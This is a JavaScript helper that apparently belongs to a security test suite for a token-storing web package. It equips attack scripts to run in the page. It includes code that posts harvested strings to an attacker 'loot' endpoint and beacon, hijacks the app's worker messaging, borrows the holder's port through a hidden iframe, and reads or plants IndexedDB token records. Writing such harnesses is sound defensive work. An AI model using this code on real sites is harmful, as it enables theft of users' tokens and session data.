/**
 * Runs in the page, before each attack script: what a script has that works for the server at `origin`, and knows the app's
 * way of running and where its `holder` is. It keeps the functions that it needs, so that hooks which are set later don't see
 * the attacker's own calls.
 */
export function makeEvil(origin, { mode, holder } = {}) {
  const { fetch, Blob, Promise, ArrayBuffer, Uint8Array, Headers, URLSearchParams, FormData, Map, Set } = globalThis;
  const { ownKeys, apply } = Reflect;
  const { stringify } = JSON;
  const { sendBeacon } = Navigator.prototype;
  const kinds = [Headers, URLSearchParams, FormData, Map, Set];
  const accessors = ["url", "message", "stack", "href", "headers", "origin", "detail", "data", "reason"];
  const under = [];

  /** Sends text, or anything else as JSON, to the attacker. */
  const post = (value) => {
    const body = typeof value === "string" ? value : (stringify(value) ?? "");
    const sending = fetch(`${origin}/loot`, { method: "POST", mode: "no-cors", body });
    under[under.length] = sending;
    return sending;
  };

  const beacon = (value) => apply(sendBeacon, navigator, [`${origin}/beacon`, new Blob([stringify(value)])]);

  /** Resolves when all that was posted has arrived. */
  const settled = () => Promise.allSettled(under);

  /** Every string in a value, bytes as latin1. */
  const strings = (value, found = [], known = new Set(), depth = 0) => {
    if (typeof value === "string") found[found.length] = value;
    if (typeof value !== "object" || value === null || known.has(value) || depth > 8) return found;
    known.add(value);
    if (value instanceof ArrayBuffer) return push(found, latin1(new Uint8Array(value)));
    if (ArrayBuffer.isView(value)) return push(found, latin1(new Uint8Array(value.buffer, value.byteOffset, value.byteLength)));
    if (kinds.some((kind) => value instanceof kind)) for (const item of value) strings(item, found, known, depth + 1);
    for (const name of accessors) strings(read(value, name), found, known, depth + 1);
    for (const name of ownKeys(value)) {
      if (typeof name === "string") push(found, name);
      strings(read(value, name), found, known, depth + 1);
    }
    return found;
  };

  const push = (list, item) => ((list[list.length] = item), list);

  const latin1 = (bytes) => {
    let text = "";
    for (let at = 0; at < bytes.length; at += 8192) text += apply(String.fromCharCode, null, bytes.subarray(at, at + 8192));
    return text;
  };

  const read = (object, name) => {
    try {
      return object[name];
    } catch {
      return undefined;
    }
  };

  const { get: bufferOf } = Object.getOwnPropertyDescriptor(WebAssembly.Memory.prototype, "buffer");
  const isMemory = (value) => {
    try {
      return apply(bufferOf, value, []) !== undefined;
    } catch {
      return false;
    }
  };

  /** The memory that `one` is, or those that it exports by whatever names. */
  const memoriesOf = (one) => [one, ...Object.values(read(one, "exports") ?? {})].filter(isMemory);

  /** The page's own dedicated worker: it is private to its connection, and the prototype tells of it. */
  function captureWorker() {
    const { postMessage } = Worker.prototype;
    return new Promise((resolve) => {
      Worker.prototype.postMessage = function (...message) {
        Worker.prototype.postMessage = postMessage;
        resolve(this);
        return postMessage.apply(this, message);
      };
      app.auth.stats();
    });
  }

  /** A connection to the holder as the app has one, of the attacker's own wherever that can be. */
  async function connect() {
    if (mode === "worker") return captureWorker();
    if (mode === "own") return (await borrow()).port;
    return new SharedWorker(holder, { type: "module", name: "tokenkeep", extendedLifetime: true }).port;
  }

  /** Listens to a holder's port: it tells many answers of a crowd in one message. */
  const hear = (port, tell) => port.addEventListener("message", ({ data, ports }) => [data].flat().forEach((one) => tell(one, ports)));

  /** What the page at the holder's origin lends a document that frames it: `{ line, ask, port, page, frame }`, or an `error`. */
  async function borrow() {
    const frame = await framed(holder);
    const { port1, port2 } = new MessageChannel();
    frame.contentWindow.postMessage({ tokenkeep: 1 }, new URL(holder).origin, [port2]);
    const ask = asking(port1);
    const { ok, error, port } = await ask("open");
    return { line: port1, ask, error, port, page: ok?.page, frame };
  }

  function framed(src, more) {
    const frame = Object.assign(document.createElement("iframe"), { hidden: true, src, ...more });
    return new Promise((resolve) => {
      frame.addEventListener("load", () => resolve(frame), { once: true });
      document.documentElement.append(frame);
    });
  }

  /** Asks over a port; resolves to `{ ok }` or `{ error }`, and the `port` that came along. */
  function asking(port) {
    const waiting = new Map();
    let last = 0;
    hear(port, (one, [handed]) => waiting.get(one.id)?.({ ...one, port: handed }));
    port.start?.();
    return (op, parameters) =>
      new Promise((resolve) => {
        waiting.set((last += 1), resolve);
        port.postMessage({ v: 1, id: last, op, ...parameters });
      });
  }

  /** Numbers from 0 to 1, the same ones for the same seed. */
  function generator(seed) {
    let a = seed >>> 0;
    return () => {
      a = (a + 0x6d2b79f5) >>> 0;
      let t = Math.imul(a ^ (a >>> 15), 1 | a);
      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
      return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
    };
  }

  const answered = (request) =>
    new Promise((done, failed) => Object.assign(request, { onsuccess: () => done(request.result), onerror: failed }));

  /** What the package has stored at this origin, as `[key, value]`. */
  async function records() {
    const known = await indexedDB.databases();
    if (!known.some(({ name }) => name === "tokenkeep")) return [];
    const database = await answered(indexedDB.open("tokenkeep"));
    const store = database.transaction("transactions").objectStore("transactions");
    const [keys, values] = [await answered(store.getAllKeys()), await answered(store.getAll())];
    database.close();
    return keys.map((key, index) => [key, values[index]]);
  }

  /** Puts such records there. */
  async function plantRecords(entries) {
    const opening = indexedDB.open("tokenkeep", 1);
    opening.onupgradeneeded = () => opening.result.createObjectStore("transactions");
    const database = await answered(opening);
    const store = database.transaction("transactions", "readwrite").objectStore("transactions");
    for (const [key, value] of entries) await answered(store.put(value, key));
    database.close();
  }

  const means = { connect, hear, borrow, framed, asking, generator, captureWorker, records, plantRecords };
  return { origin, post, beacon, settled, strings, latin1, read, isMemory, memoriesOf, ...means };
}
